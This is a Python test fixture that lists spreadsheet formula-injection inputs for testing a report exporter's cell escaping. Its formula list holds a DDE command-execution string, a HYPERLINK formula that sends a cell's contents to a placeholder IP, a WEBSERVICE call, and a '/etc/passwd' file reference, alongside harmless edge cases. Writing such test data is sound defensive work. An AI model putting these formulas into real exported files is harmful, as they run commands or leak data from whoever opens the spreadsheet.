"""More than a hundred texts that somebody could put into a field in order to make a spreadsheet do something."""

from __future__ import annotations

from tests.reports.hostile_texts import PAYLOADS

_STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
    "\x00=",
    " =",
    "'=",
    '"=',
)
_FORMULAS = (
    "1+1",
    "cmd|'/c calc'!A0",
    'HYPERLINK("http://198.51.100.7/?"&A1,"click")',
    'WEBSERVICE("http://198.51.100.7/")',
    "IMPORTXML(A1,B1)",
)
_ODD = (
    "{=SUM(A1:A9)}",
    "#DIV/0!",
    "#NULL!",
    "#NAME?",
    "#NUM!",
    "#VALUE!",
    "FALSE",
    "true",
    "0x1F",
    "1E5",
    "00123",
    "1/2",
    "12:30",
    "2026-03-03T07:40:00Z",
    "3 maart 2026",
    "€ 5,00",
    "5,10",
    "_x000d_",
    "_x005F_x0041_",
    "__x0041_",
    "]]>",
    "<![CDATA[x]]>",
    "&#x0;",
    "&nbsp;",
    '<?xml version="1.0"?>',
    "<!DOCTYPE x>",
    "file:///etc/passwd",
    "\\\\198.51.100.7\\share",
    "mailto:a@example.org?bcc=b@example.org",
    "tel:+32-1",
    "'Sheet'!A1",
    "[Book2.xlsx]Sheet1!A1",
    "\u200b=1",
    "\ufeff=1",
    "\u2028=1",
    "e\u0301" * 40,
    "\ud83d\ude00"[:1] + "x",
    "a\u0000b",
    "'" * 300,
    '"' * 300,
)
CELL_PAYLOADS = tuple(
    dict.fromkeys((*PAYLOADS, *(start + rest for start in _STARTS for rest in _FORMULAS), *_ODD))
)
